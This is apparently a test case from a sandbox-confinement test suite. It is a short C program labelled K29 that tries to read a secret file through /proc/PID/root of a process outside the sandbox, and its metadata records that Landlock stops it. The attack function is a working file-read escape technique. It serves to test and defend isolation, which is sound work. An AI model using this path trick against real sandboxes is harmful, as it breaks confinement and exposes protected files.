// id: K29
// title: /proc/PID/root of a process outside leads everywhere
// label: by design: a path rule holds wherever the walk began
// reference: https://docs.kernel.org/userspace-api/landlock.html
// versions: none
// measured: plain escaped on Linux 6.18.44
// grants: --allow-fs-read={grant} --allow-fs-read=/proc
// prove: content
// stops: landlock
// setup: victim
#include "attack.h"

static void attack(void) {
    char path[8192];
    snprintf(path, sizeof path, "/proc/%s/root%s", attack_value("pid"), secret_path("secret.txt"));
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) failed("open");
    escaped_reading(fd);
}
